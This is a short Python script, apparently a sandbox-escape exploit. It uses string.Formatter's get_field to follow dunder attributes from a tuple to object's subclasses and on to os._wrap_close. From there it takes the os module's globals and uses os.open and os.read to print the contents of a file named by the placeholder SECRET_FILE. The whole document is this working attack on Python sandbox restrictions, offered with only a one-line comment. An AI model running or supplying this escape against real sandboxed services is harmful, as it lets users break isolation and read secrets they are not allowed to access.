# Lets the formatter class of the string module follow hidden attributes and hand over the object.
import string

get = string.Formatter().get_field
root, _ = get("0.__class__.__base__", ((),), {})
children, _ = get("0.__subclasses__", (root,), {})
for child in children():
    if "_wrap_close" in repr(child):
        names, _ = get("0.__init__.__globals__", (child,), {})
        print(names["read"](names["open"](SECRET_FILE, 0), 200).decode())
